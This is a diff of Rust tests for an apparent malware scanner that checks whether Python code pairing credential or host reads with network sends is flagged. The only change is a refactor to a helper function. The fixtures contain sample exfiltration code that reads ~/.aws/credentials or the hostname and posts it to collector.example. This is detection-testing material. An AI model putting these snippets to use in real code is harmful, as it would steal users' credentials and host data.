@@ -162,14 +162,14 @@ fn credentials_and_host_data_correlate_only_in_one_python_scope() {
                  def rc():\n    return os.path.join(os.path.expanduser('~'), '.pypirc')\n\
                  def tag():\n    return platform.node()\n\
                  def upload(u, d):\n    return requests.post(u, data=d)\n";
-    let rules: Vec<String> = findings_for(apart).into_iter().map(|f| f.0).collect();
+    let rules = rules_for(apart);
     assert!(!rules.iter().any(|r| r.contains("secrets")), "{rules:?}");
     let together = "import os, platform, requests\n\
                     def inventory():\n    \
                     rc = os.path.join(os.path.expanduser('~'), '.pypirc')\n    \
                     return platform.node(), rc\n\
                     def upload(u, d):\n    return requests.post(u, data=d)\n";
-    let rules: Vec<String> = findings_for(together).into_iter().map(|f| f.0).collect();
+    let rules = rules_for(together);
     assert_has(&rules, "correlate/secrets-and-network");
 }
 
@@ -179,7 +179,7 @@ fn reading_credentials_and_sending_in_one_function_is_exfiltration() {
                   def grab():\n    \
                   data = open(os.path.expanduser('~/.aws/credentials')).read()\n    \
                   requests.post('https://collector.example/x', data=data)\n";
-    let rules: Vec<String> = findings_for(source).into_iter().map(|f| f.0).collect();
+    let rules = rules_for(source);
     assert_has(&rules, "correlate/function-secrets-to-network");
 }
 
@@ -189,10 +189,10 @@ fn a_function_called_at_module_level_runs_on_import_but_not_under_a_main_guard()
                 def ping():\n    \
                 requests.get('https://collector.example/p', params={'h': socket.gethostname()})\n";
     let called = format!("{body}ping()\n");
-    let rules: Vec<String> = findings_for(&called).into_iter().map(|f| f.0).collect();
+    let rules = rules_for(&called);
     assert_has(&rules, "correlate/host-data-and-network");
     let guarded = format!("{body}if __name__ == '__main__':\n    ping()\n");
-    let rules: Vec<String> = findings_for(&guarded).into_iter().map(|f| f.0).collect();
+    let rules = rules_for(&guarded);
     assert_lacks(&rules, "correlate/host-data-and-network");
     assert_has(&rules, "correlate/function-host-data-to-network");
 }
